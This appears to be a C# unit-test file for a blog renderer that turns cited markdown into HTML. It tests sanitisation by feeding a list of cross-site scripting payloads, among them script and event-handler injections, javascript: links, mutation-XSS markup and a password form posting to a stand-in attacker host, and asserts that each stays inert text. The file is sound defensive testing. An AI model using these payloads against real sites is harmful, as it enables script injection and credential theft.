using AngleSharp.Html.Parser;
using BlogCreator.Api.Evidence;
using BlogCreator.Api.Posts;

namespace BlogCreator.Tests.Posts;

public sealed class RenderPostTests
{
    private static readonly SourcePassage Passage = new(
        Guid.NewGuid(), Guid.NewGuid(), "Bridges <of> 1890.pdf", 12, "History", "prose", 0,
        "The bridge was opened in 1890. It is 2,467 metres long.");

    public static TheoryData<string> Payloads =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt&colon;alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "![x](https://evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "text {onclick=alert(1)}",
        "[a](https://ok.example){onmouseover=alert(1) style=position:fixed}",
        "# heading {#x onclick=alert(1)}",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<style>@import url(https://evil.example/x.css)</style>",
        "<div style=\"position:fixed;inset:0\">overlay</div>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href=\"https://ok.example\" onfocus=alert(1) autofocus>x</a>",
        "[x]: javascript:alert(1)\n\n[x]",
        "<https://ok.example/\"onmouseover=alert(1)>",
        "\uE1000\uE103<b onclick=alert(1)>\uE101",
        "`<script>alert(1)</script>`",
        "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[c](javascript:alert(1))|",
        "<object data=x></object><embed src=x><base href=https://evil.example/>",
        "[x](https://ok.example \"\\\" onmouseover=alert(1)\")",
        "[x](&#106;avascript:alert(1))",
        "[x](//evil.example/page)",
        "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Hostile_text_stays_text(string payload)
    {
        foreach (var markdown in new[] { payload, $"Before.[^1] {payload} After.", $"- item {payload}", $"> {payload}" })
        {
            var claims = CheckPost.Run(markdown, new Dictionary<int, SourcePassage> { [1] = Passage with { Text = payload, DocumentName = payload } });
            var html = RenderPost.ToHtml(markdown, claims, "a-post");
            var page = new HtmlParser().ParseDocument($"<body>{html}</body>");
            Assert.Empty(page.QuerySelectorAll("script,style,img,svg,iframe,object,embed,base,form,input,button,math,link,meta"));
            foreach (var element in page.All)
            {
                Assert.DoesNotContain(element.Attributes, attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name == "style");
                if (element.GetAttribute("href") is { } href)
                {
                    Assert.Matches("^(https?:|mailto:|/(?!/))", href);
                }
            }
        }
    }

    [Fact]
    public void A_cited_sentence_carries_its_evidence()
    {
        const string Markdown = "The bridge was opened in 1890.[^1] Go and see it!";
        var claims = CheckPost.Run(Markdown, new Dictionary<int, SourcePassage> { [1] = Passage });
        var page = new HtmlParser().ParseDocument(RenderPost.ToHtml(Markdown, claims, "bridge"));
        var sentence = Assert.Single(page.QuerySelectorAll("span.claim[data-verdict=supported]"));
        Assert.StartsWith("The bridge was opened in 1890.", sentence.TextContent, StringComparison.Ordinal);
        var link = sentence.QuerySelector("a.cite")!;
        Assert.Equal($"/posts/bridge/evidence#{sentence.Id}", link.GetAttribute("href"));
        var card = sentence.QuerySelector($"#{link.GetAttribute("aria-describedby")}")!;
        Assert.Equal("The bridge was opened in 1890.", card.QuerySelector("q")!.TextContent);
        Assert.Equal("Bridges <of> 1890.pdf, page 12", card.QuerySelector(".where")!.TextContent);
        Assert.DoesNotContain("Go and see", sentence.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void Several_sentences_of_a_paragraph_are_marked_apart()
    {
        const string Markdown = "The bridge was *opened* in 1890.[^1] It is 2,467 metres long.[^1]\n\n- The bridge was opened in **1890**.[^1]";
        var claims = CheckPost.Run(Markdown, new Dictionary<int, SourcePassage> { [1] = Passage });
        var page = new HtmlParser().ParseDocument(RenderPost.ToHtml(Markdown, claims, "bridge"));
        Assert.Equal(3, page.QuerySelectorAll("span.claim").Length);
        Assert.Equal(3, page.QuerySelectorAll("span.claim > a.cite").Length);
        Assert.Equal(page.QuerySelectorAll("[id]").Length, page.QuerySelectorAll("[id]").Select(element => element.Id).Distinct().Count());
    }

    [Fact]
    public void A_mark_to_nothing_shows_nothing()
    {
        var html = RenderPost.ToHtml("A sentence.[^7]", CheckPost.Run("A sentence.[^7]", new Dictionary<int, SourcePassage>()), "post");
        Assert.DoesNotContain("[^7]", html, StringComparison.Ordinal);
        Assert.DoesNotContain("cite", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Über Wärme: 12 facts", "uber-warme-12-facts")]
    [InlineData("It's  a -- test!", "its-a-test")]
    [InlineData("???", "post")]
    [InlineData("日本語の題", "日本語の題")]
    public void A_title_becomes_an_address(string title, string slug) => Assert.Equal(slug, SlugFor.Title(title));

    [Fact]
    public void Plain_text_has_no_marks() =>
        Assert.Equal("Title\nThe bridge & more.", RenderPost.ToPlainText("# Title\n\nThe **bridge** &amp; more.[^1]"));
}
